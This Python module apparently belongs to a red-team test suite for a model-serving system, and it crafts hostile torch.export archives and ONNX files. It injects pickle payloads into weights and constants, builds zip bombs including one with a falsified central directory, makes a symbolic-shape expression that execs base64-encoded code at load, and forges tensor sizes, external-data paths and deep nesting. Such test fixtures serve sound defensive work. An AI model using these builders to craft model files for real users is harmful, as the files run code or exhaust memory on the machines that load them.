"""Hand-made torch.export archives and ONNX files for attacks that the exporters never write."""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile

import numpy as np
import torch
from onnx import TensorProto, helper, numpy_helper

from redteam.craft import reduce_pickle


class Small(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = torch.nn.Conv2d(1, 2, 3)
        self.fc = torch.nn.Linear(2 * 13 * 13, 10)

    def forward(self, x):
        return self.fc(torch.flatten(torch.nn.functional.max_pool2d(torch.relu(self.conv(x)), 2), 1))


def honest_pt2() -> bytes:
    """A real torch.export archive (dynamic batch) of a small CNN: the base the attacks edit."""
    torch.manual_seed(0)
    program = torch.export.export(Small().eval(), (torch.zeros(2, 1, 28, 28),),
                                  dynamic_shapes={"x": {0: torch.export.Dim("batch")}})
    buf = io.BytesIO()
    torch.export.save(program, buf)
    return buf.getvalue()


def rewrite_pt2(pt2: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
                deflate: bool = False) -> bytes:
    """The archive with members (named below its root folder) replaced or added (deflated if asked)."""
    replace, add = dict(replace or {}), dict(add or {})
    kind = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(pt2)) as src, zipfile.ZipFile(out, "w") as dst:
        root = src.namelist()[0].split("/", 1)[0]
        for info in src.infolist():
            inner = info.filename[len(root) + 1:]
            if inner in replace:
                dst.writestr(info.filename, replace.pop(inner), compress_type=kind, compresslevel=1)
            else:
                dst.writestr(info.filename, src.read(info))
        for inner, data in {**replace, **add}.items():
            dst.writestr(f"{root}/{inner}", data, compress_type=kind, compresslevel=1)
    return out.getvalue()


def _config(pt2: bytes, inner: str) -> dict:
    with zipfile.ZipFile(io.BytesIO(pt2)) as zf:
        root = zf.namelist()[0].split("/", 1)[0]
        return json.loads(zf.read(f"{root}/{inner}"))


WEIGHTS_CONFIG = "data/weights/model_weights_config.json"
CONSTANTS_CONFIG = "data/constants/model_constants_config.json"


def pickle_in_sample_inputs(pt2: bytes, source: str) -> bytes:
    """torch.export.load tries weights-only, then plain unpickling of data/sample_inputs/model.pt."""
    return rewrite_pt2(pt2, replace={"data/sample_inputs/model.pt": reduce_pickle(source)})


def pickle_in_weight(pt2: bytes, source: str) -> bytes:
    """A weight marked use_pickle: loaded with torch.load(weights_only=False)."""
    config = _config(pt2, WEIGHTS_CONFIG)
    first = next(iter(config["config"].values()))
    first["use_pickle"] = True
    return rewrite_pt2(pt2, replace={WEIGHTS_CONFIG: json.dumps(config).encode(),
                                     f"data/weights/{first['path_name']}": reduce_pickle(source)})


def pickle_in_constant(pt2: bytes, source: str) -> bytes:
    """A tensor constant marked use_pickle (torch.load(weights_only=False)), loaded whether the graph uses it or not."""
    config = {"config": {"evil": {"path_name": "tensor_0", "is_param": False, "use_pickle": True,
                                  "tensor_meta": None}}}
    return rewrite_pt2(pt2, replace={CONSTANTS_CONFIG: json.dumps(config).encode(),
                                     "data/constants/tensor_0": reduce_pickle(source)})


def opaque_object(pt2: bytes, source: str, prefix: str = "opaque_obj_") -> bytes:
    """A constant that torch.export.load hands to pickle.loads (opaque) or torch's object unpickler (custom)."""
    config = {"config": {"evil": {"path_name": f"{prefix}0", "is_param": False, "use_pickle": False,
                                  "tensor_meta": None}}}
    return rewrite_pt2(pt2, replace={CONSTANTS_CONFIG: json.dumps(config).encode(),
                                     f"data/constants/{prefix}0": reduce_pickle(source)})


def huge_declared_shape(pt2: bytes) -> bytes:
    """The first weight claims 2**40 x 2**20 elements over its few real bytes."""
    config = _config(pt2, WEIGHTS_CONFIG)
    first = next(iter(config["config"].values()))
    first["tensor_meta"]["sizes"] = [{"as_int": 2**40}, {"as_int": 2**20}, {"as_int": 1}, {"as_int": 1}]
    return rewrite_pt2(pt2, replace={WEIGHTS_CONFIG: json.dumps(config).encode()})


def zip_bomb(pt2: bytes, inflated: int) -> bytes:
    """An extra deflated weight of zeros that inflates to `inflated` bytes."""
    return rewrite_pt2(pt2, add={"data/weights/weight_99": b"\0" * inflated}, deflate=True)


def lying_zip_bomb(pt2: bytes, inflated: int) -> bytes:
    """The constants table, padded to `inflated` bytes and deflated, under a central directory that says 4 KB:
    the directory check alone passes, and the member is one that loading reads."""
    table = b'{"config": {}}' + b" " * inflated
    data = bytearray(rewrite_pt2(pt2, replace={CONSTANTS_CONFIG: table}, deflate=True))
    eocd = data.rfind(b"PK\x05\x06")
    pos = struct.unpack_from("<I", data, eocd + 16)[0]
    while data[pos:pos + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        if bytes(data[pos + 46:pos + 46 + name_len]).endswith(CONSTANTS_CONFIG.encode()):
            struct.pack_into("<I", data, pos + 24, 4096)
        pos += 46 + name_len + extra_len + comment_len
    return bytes(data)


def aoti_package(pt2: bytes) -> bytes:
    """What torch._inductor.aoti_compile_and_package writes: compiled native code beside the program."""
    return rewrite_pt2(pt2, add={"data/aotinductor/model/model.so": b"\x7fELF" + b"\0" * 60,
                                 "data/aotinductor/model/model.wrapper.cpp": b"int main() { return 0; }"})


def two_programs(pt2: bytes) -> bytes:
    """A second program under models/."""
    with zipfile.ZipFile(io.BytesIO(pt2)) as zf:
        root = zf.namelist()[0].split("/", 1)[0]
        program = zf.read(f"{root}/models/model.json")
    return rewrite_pt2(pt2, add={"models/other.json": program})


# ---------------------------------------------------------------- ONNX

def _model(nodes, inputs, outputs, inits=(), opsets=(("", 17),)) -> bytes:
    graph = helper.make_graph(nodes, "g", inputs, outputs, list(inits))
    return helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets],
                             ir_version=8).SerializeToString()


def _io(name: str, shape) -> object:
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, shape)


def honest_onnx() -> bytes:
    """A linear classifier over [batch, 1, 28, 28]."""
    w = numpy_helper.from_array(np.random.default_rng(0).standard_normal((784, 10)).astype(np.float32), "w")
    return _model([helper.make_node("Flatten", ["x"], ["f"]), helper.make_node("MatMul", ["f", "w"], ["y"])],
                  [_io("x", ["batch", 1, 28, 28])], [_io("y", ["batch", 10])], [w])


def external_data(location: str) -> bytes:
    """The classifier with its weight in an external file at `location` (as the exporter writes big models)."""
    w = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[784, 10], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", str(784 * 10 * 4))):
        w.external_data.add(key=key, value=value)
    return _model([helper.make_node("Flatten", ["x"], ["f"]), helper.make_node("MatMul", ["f", "w"], ["y"])],
                  [_io("x", ["batch", 1, 28, 28])], [_io("y", ["batch", 10])], [w])


def external_data_in_subgraph(location: str) -> bytes:
    """External data hidden in a Constant inside an If branch, not among the initializers."""
    t = TensorProto(name="c", data_type=TensorProto.FLOAT, dims=[1, 10], data_location=TensorProto.EXTERNAL)
    t.external_data.add(key="location", value=location)
    branch = helper.make_graph([helper.make_node("Constant", [], ["k"], value=t)], "b", [], [_io("k", [1, 10])])
    nodes = [helper.make_node("ReduceSum", ["x"], ["s"], keepdims=0),
             helper.make_node("Greater", ["s", "zero"], ["cond"]),
             helper.make_node("If", ["cond"], ["y"], then_branch=branch, else_branch=branch)]
    zero = numpy_helper.from_array(np.zeros((), np.float32), "zero")
    return _model(nodes, [_io("x", ["batch", 1, 28, 28])], [_io("y", ["batch", 10])], [zero])


def huge_allocation() -> bytes:
    """ConstantOfShape asked for 2**34 floats (64 GB) per call."""
    shape = numpy_helper.from_array(np.array([2**17, 2**17], np.int64), "shape")
    nodes = [helper.make_node("ConstantOfShape", ["shape"], ["big"]),
             helper.make_node("ReduceSum", ["big"], ["s"], keepdims=0),
             helper.make_node("Flatten", ["x"], ["f"]),
             helper.make_node("Slice", ["f", "start", "end", "axis"], ["y0"]),
             helper.make_node("Add", ["y0", "s"], ["y"])]
    inits = [shape, numpy_helper.from_array(np.array([0], np.int64), "start"),
             numpy_helper.from_array(np.array([10], np.int64), "end"),
             numpy_helper.from_array(np.array([1], np.int64), "axis")]
    return _model(nodes, [_io("x", ["batch", 1, 28, 28])], [_io("y", ["batch", 10])], inits)


def huge_declared_initializer() -> bytes:
    """An initializer that declares 2**31 x 2**31 floats and carries 16 bytes."""
    w = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2**31, 2**31], raw_data=b"\0" * 16)
    return _model([helper.make_node("Flatten", ["x"], ["f"]), helper.make_node("MatMul", ["f", "w"], ["y"])],
                  [_io("x", ["batch", 1, 28, 28])], [_io("y", ["batch", 10])], [w])


def _len_field(number: int, payload: bytes) -> bytes:
    n, size = len(payload), b""
    while True:
        byte = n & 0x7F
        n >>= 7
        size += bytes([byte | (0x80 if n else 0)])
        if not n:
            break
    return bytes([number << 3 | 2]) + size + payload


def deeply_nested(depth: int = 5000) -> bytes:
    """A graph whose If node holds a graph whose If node holds a graph ... `depth` levels down (raw protobuf)."""
    graph = b""
    for _ in range(depth):
        attr = _len_field(1, b"then_branch") + _len_field(6, graph) + b"\xa0\x01\x05"  # name, g, type=GRAPH
        node = _len_field(4, b"If") + _len_field(5, attr)
        graph = _len_field(1, node)
    opset = _len_field(8, b"\x10\x11")
    return b"\x08\x08" + _len_field(7, graph) + opset


def unknown_domain() -> bytes:
    """An operator from a domain no runtime has (com.evil.Exfiltrate)."""
    return _model([helper.make_node("Exfiltrate", ["x"], ["y"], domain="com.evil")],
                  [_io("x", ["batch", 1, 28, 28])], [_io("y", ["batch", 10])], opsets=(("", 17), ("com.evil", 1)))


def custom_op() -> bytes:
    """A custom operator of onnxruntime-extensions (ai.onnx.contrib), whose library Podium never registers."""
    return _model([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")],
                  [_io("x", ["batch", 1, 28, 28])], [_io("y", ["batch", 10])],
                  opsets=(("", 17), ("ai.onnx.contrib", 1)))


def fixed_batch() -> bytes:
    """The classifier exported for batches of exactly 1."""
    w = numpy_helper.from_array(np.zeros((784, 10), np.float32), "w")
    return _model([helper.make_node("Flatten", ["x"], ["f"]), helper.make_node("MatMul", ["f", "w"], ["y"])],
                  [_io("x", [1, 1, 28, 28])], [_io("y", [1, 10])], [w])


def python_at_load(pt2: bytes, source: str) -> bytes:
    """torch.export.load parses each symbolic shape with sympy.sympify, which evals: `source` runs at load."""
    import base64

    payload = base64.b64encode(source.encode()).decode()
    expr = f"__import__('builtins').exec(__import__('base64').b64decode('{payload}').decode(), {{}})"
    with zipfile.ZipFile(io.BytesIO(pt2)) as zf:
        root = zf.namelist()[0].split("/", 1)[0]
        program = zf.read(f"{root}/models/model.json").decode()
    crafted = re.sub(r'"expr_str": "[^"]*"', lambda _: f'"expr_str": {json.dumps(expr)}', program)
    assert crafted != program, "no symbolic shape to carry the payload"
    return rewrite_pt2(pt2, replace={"models/model.json": crafted.encode()})
